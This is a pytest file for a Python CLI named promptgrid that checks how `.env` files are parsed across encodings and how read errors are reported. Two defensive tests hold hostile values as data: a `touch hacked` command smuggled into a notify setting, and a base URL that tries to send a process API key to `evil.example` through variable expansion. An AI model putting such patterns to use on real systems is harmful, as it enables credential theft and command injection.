"""A `.env` is read as people write it, and one that cannot be read is an error that says what to do."""

from __future__ import annotations

import codecs
import os
import shlex
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from promptgrid.cli import main
from promptgrid.endpoint.settings import read_settings
from promptgrid.errors import TextError
from promptgrid.paths import cache_folder, config_folder, data_folder, environment, install_command
from tests.places import CHECKOUT

KEY = "sk-0123456789abcdef"
LINE = f"OPENAI_API_KEY={KEY}\n"


@pytest.fixture
def env(home: Path) -> Path:
    return Path.cwd() / ".env"


@pytest.mark.parametrize(
    "data",
    [
        LINE.encode(),
        LINE.replace("\n", "\r\n").encode(),
        codecs.BOM_UTF8 + LINE.encode(),
        LINE.encode("utf-16"),
        codecs.BOM_UTF16_BE + LINE.encode("utf-16-be"),
        LINE.encode("utf-16-le"),
        codecs.BOM_UTF16_LE + LINE.replace("\n", "\r\n").encode("utf-16-le"),
        f'OPENAI_API_KEY="{KEY}"\r\n'.encode(),
        f"OPENAI_API_KEY = '{KEY}'  # mine\n".encode(),
        f"  export OPENAI_API_KEY={KEY}   \r\n".encode(),
        f"# größer\r\n\r\nOTHER=1\r\nOPENAI_API_KEY={KEY}".encode(),
    ],
    ids=["plain", "CRLF", "BOM", "UTF-16", "big", "no mark", "PowerShell", "quotes", "spaces", "export", "more"],
)
def test_the_key_is_read_whatever_wrote_the_file(env: Path, data: bytes) -> None:
    env.write_bytes(data)
    assert read_settings(environment())["openai"].api_key == KEY


def test_a_file_in_another_encoding_is_an_error_with_advice(env: Path) -> None:
    env.write_bytes("# größer\nOPENAI_API_KEY=x\n".encode("cp1252"))
    with pytest.raises(TextError, match=r"\.env is neither UTF-8 nor UTF-16\. Save it as UTF-8\."):
        environment()


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="root reads every file")
def test_a_file_without_permission_is_an_error_with_advice(env: Path) -> None:
    env.write_text(LINE)
    env.chmod(0)
    with pytest.raises(TextError, match="Make it readable"):
        environment()


def test_an_error_of_the_system_is_told_and_a_folder_of_that_name_is_not_one(
    env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def read(path: Path) -> bytes:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(Path, "read_bytes", read)
    with pytest.raises(TextError, match="Permission denied"):
        environment()
    monkeypatch.undo()
    env.mkdir()
    assert "OPENAI_API_KEY" not in environment() or "OPENAI_API_KEY" in os.environ


@pytest.mark.parametrize("command", [["models"], ["doctor"], ["plan", "sentiment"]])
def test_no_command_ends_with_a_traceback(env: Path, command: list[str]) -> None:
    env.write_bytes(b"\xff\xff\xfe")
    result = CliRunner().invoke(main, command)
    assert isinstance(result.exception, SystemExit)
    assert ".env is neither UTF-8 nor UTF-16" in result.output


@pytest.mark.parametrize("command", ["prompts", "runs"])
def test_a_command_that_needs_no_key_works_beside_a_broken_file(env: Path, command: str) -> None:
    env.write_bytes(b"\xff\xff\xfe")
    assert CliRunner().invoke(main, [command]).exit_code == 0


def test_the_file_adds_keys_and_never_replaces_one(env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "of-the-user")
    env.write_text("OPENAI_API_KEY=of-the-folder\nDEEPSEEK_API_KEY='d-1'\n", "utf-8")
    assert environment()["OPENAI_API_KEY"] == "of-the-user"
    assert environment()["DEEPSEEK_API_KEY"] == "d-1"


def test_the_file_moves_no_folder_and_names_no_command(env: Path, home: Path) -> None:
    env.write_text("PROMPTGRID_HOME=.\nPROMPTGRID_NOTIFY=touch hacked\npromptgrid_prompts=/\n", "utf-8")
    assert "PROMPTGRID_NOTIFY" not in environment()
    assert "promptgrid_prompts" not in environment()
    assert config_folder() == home / "config"


def test_the_file_cannot_read_the_keys_of_the_process(env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DEEPSEEK_API_KEY", "of-the-user")
    lines = (
        "HOST=evil.example\nOPENAI_BASE_URL=http://${HOST}/${DEEPSEEK_API_KEY}\nOPENAI_API_KEY=${DEEPSEEK_API_KEY}\n"
    )
    env.write_text(lines, "utf-8")
    assert environment()["OPENAI_BASE_URL"] == "http://evil.example/"
    assert environment()["OPENAI_API_KEY"] == ""


@pytest.mark.skipif(os.name != "posix", reason="modes of POSIX")
def test_a_folder_that_others_can_read_is_closed(home: Path) -> None:
    for folder in (data_folder, cache_folder):
        folder().chmod(0o755)
        assert folder().stat().st_mode & 0o777 == 0o700


def test_an_extra_is_installed_from_the_checkout_into_the_python_that_runs() -> None:
    command = shlex.split(install_command("tune"))
    assert command == [sys.executable, "-m", "pip", "install", "-e", f"{CHECKOUT}[tune]"]
